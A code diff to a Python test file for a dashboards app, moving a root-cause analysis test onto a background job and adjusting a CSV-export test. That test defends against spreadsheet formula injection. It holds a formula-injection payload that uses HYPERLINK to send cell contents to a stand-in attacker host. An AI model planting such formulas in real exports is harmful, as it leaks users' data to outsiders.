@@ -12,6 +12,7 @@ from dashboards import create_app
 from dashboards.app import render, shell
 from dashboards.context import new_session_id
 from dashboards.pages import ask, dashboards, explore, pages
+from dashboards.pages._progress import job_result_cards
 from semantic_layer import SemanticQuery
 
 from .helpers import find, text_of
@@ -319,9 +320,13 @@ def test_why_button_runs_the_root_cause_analysis(ctx):
                                              filters=[{"op": "in", "dimension": "province", "values": ["广东"]}]),
                      "广东11月收入环比", "zh")
     assert find(ask.thread_turns(ctx, sid, "zh"), id_type="why")
-    turns = ask.explain(ctx, sid, answer_id, "zh")
+    started = ask.explain(ctx, sid, answer_id, "zh")  # off the request thread: a progress turn first
+    assert find(started, cls="job-card")
+    job = ctx.jobs.wait(find(started, id_type="job-tick")[0].id["job"])
+    assert job.state == "done" and job.kind == "why"
     report = ctx.session(sid).history()[-1][1]
     assert report.report is not None and report.intent == "root_cause"
+    turns = job_result_cards(ctx, job, "zh")  # what the page's next tick shows
     graph = find(turns, id_type="graph")[0]
     assert graph.figure.data[0].type == "waterfall"
     table = text_of(find(turns, cls="contributors"))
@@ -375,7 +380,7 @@ def test_csv_download_neutralises_spreadsheet_formulas(ctx):
     sid = new_session_id()
     run_sql(ctx, sid, "", "SELECT '=HYPERLINK(\"http://evil.example/?\"&A1)' AS \"@leak\", '+1+1' AS p, "
             "'-2' AS m, '@SUM(A1)' AS a, city, -5 AS n FROM dim_region ORDER BY city_id LIMIT 1", "en")
-    answer_id = list(ctx.session(sid).answers)[-1]
+    answer_id = ctx.session(sid).history()[-1][0]
     rows = list(csv.reader(io.StringIO(ask.csv_download(ctx, sid, answer_id)["content"].lstrip("\ufeff"))))
     assert rows[0] == ["'@leak", "p", "m", "a", "City", "n"]
     assert rows[1][:4] == ["'=HYPERLINK(\"http://evil.example/?\"&A1)", "'+1+1", "'-2", "'@SUM(A1)"]
